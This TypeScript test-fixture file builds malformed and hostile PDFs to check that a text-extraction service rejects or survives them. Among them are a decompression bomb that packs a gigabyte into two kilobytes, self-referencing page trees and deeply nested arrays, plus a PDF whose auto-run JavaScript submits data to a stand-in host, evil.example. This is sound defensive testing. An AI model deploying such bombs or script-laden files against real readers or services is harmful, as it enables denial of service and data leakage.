import { deflateSync } from 'node:zlib';
import { pdfFile, pdfStream, twoPages } from '../small-pdf';

const asPdf = (text: string): Buffer => Buffer.from(text, 'latin1');

/** The same pages behind a password: the standard security handler with an owner and a user key that no password has. */
export const encryptedPdf: Buffer = asPdf(
  twoPages
    .toString('latin1')
    .replace(
      'trailer << ',
      `trailer << /ID [<00> <00>] /Encrypt << /Filter /Standard /V 1 /R 2 /Length 40 /P -4 /O <${'41'.repeat(32)}> /U <${'42'.repeat(32)}> >> `,
    ),
);

/** Its objects and its end are missing. */
export const truncatedPdf: Buffer = twoPages.subarray(0, 40);

/** A page without text, as a scanner makes it. */
export const scannedPdf: Buffer = asPdf(
  twoPages.toString('latin1').replace(/BT .* ET/g, (text) => ' '.repeat(text.length)),
);

const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
const WORDS = 'BT /F1 24 Tf 72 700 Td (The only page) Tj ET';
const page =
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R /Resources << /Font << /F1 3 0 R >> >> >>';

interface Lies {
  readonly content?: Buffer;
  /** Number of pages, as the file states it. */
  readonly count?: number;
  readonly kids?: string;
  /** Added to the catalog. */
  readonly catalog?: string;
  readonly more?: readonly string[];
}

/** A file of one page that says otherwise. */
const onePage = ({ content = pdfStream(WORDS), count = 1, kids = '4 0 R', catalog = '', more = [] }: Lies): Buffer =>
  pdfFile([
    `<< /Type /Catalog /Pages 2 0 R ${catalog}>>`,
    `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
    FONT,
    page,
    content,
    ...more,
  ]);

const deflated = (data: Buffer, times = 1): Buffer => {
  let packed = data;
  for (let time = 0; time < times; time++) packed = deflateSync(packed);
  return pdfStream(packed, `/Filter [${'/FlateDecode '.repeat(times)}] `);
};

/** What becomes of a hostile file: why its text cannot be read, or the text that is read all the same. */
export interface HostilePdf {
  readonly what: string;
  readonly make: () => Buffer;
  readonly outcome: { readonly fault: string } | { readonly says: string };
  /** The status with which it is refused when it is sent; it is taken otherwise. */
  readonly refused?: 400 | 413;
}

const GIGABYTE = 1024 ** 3;
/** Two kilobytes. */
export const gigabytePdf = (): Buffer => onePage({ content: deflated(Buffer.alloc(GIGABYTE, ' '), 2) });
const ONLY = { says: 'The only page' };

export const hostilePdfs: readonly HostilePdf[] = [
  { what: 'not a PDF', make: () => asPdf('<html>'), outcome: { fault: 'not_a_pdf' }, refused: 400 },
  { what: 'behind a password', make: () => encryptedPdf, outcome: { fault: 'encrypted' } },
  { what: 'without its end', make: () => truncatedPdf, outcome: { fault: 'truncated' } },
  { what: 'of pictures', make: () => scannedPdf, outcome: { fault: 'scanned' } },
  { what: 'of a billion pages, as it says', make: () => onePage({ count: 1e9 }), outcome: ONLY },
  { what: 'of fewer than no pages, as it says', make: () => onePage({ count: -3 }), outcome: { fault: 'damaged' } },
  {
    what: 'whose pages contain each other',
    make: () => onePage({ count: 2, kids: '4 0 R 2 0 R' }),
    outcome: { fault: 'damaged' },
  },
  {
    what: 'of more than 2,000 pages',
    make: () => onePage({ count: 2001, kids: '4 0 R '.repeat(2001) }),
    outcome: { fault: 'too_many_pages' },
  },
  {
    what: 'whose only page is a gigabyte, in two kilobytes',
    make: gigabytePdf,
    outcome: { fault: 'too_complex' },
  },
  {
    what: 'whose streams are shorter than it says',
    make: () =>
      asPdf(
        onePage({})
          .toString('latin1')
          .replace(/\/Length \d+/, '/Length 999999999'),
      ),
    outcome: ONLY,
  },
  {
    what: 'with scripts',
    make: () =>
      onePage({
        catalog:
          '/OpenAction << /S /JavaScript /JS (globalThis.hit = true; this.submitForm("https://evil.example")) >> /AA << /WC << /S /URI /URI (https://evil.example) >> >> ',
      }),
    outcome: ONLY,
  },
  {
    what: 'of a million objects',
    make: () => onePage({ more: Array<string>(999_995).fill('1') }),
    outcome: ONLY,
    refused: 413,
  },
  {
    what: 'of a million objects without a list of them',
    make: () => asPdf(`%PDF-1.4\n${'6 0 obj 1 endobj\n'.repeat(1_000_000)}trailer << /Root 1 0 R >>\n%%EOF`),
    outcome: { fault: 'damaged' },
  },
  {
    what: 'of five million lists within each other',
    make: () => onePage({ content: pdfStream('['.repeat(5_000_000)) }),
    outcome: { fault: 'scanned' },
  },
];
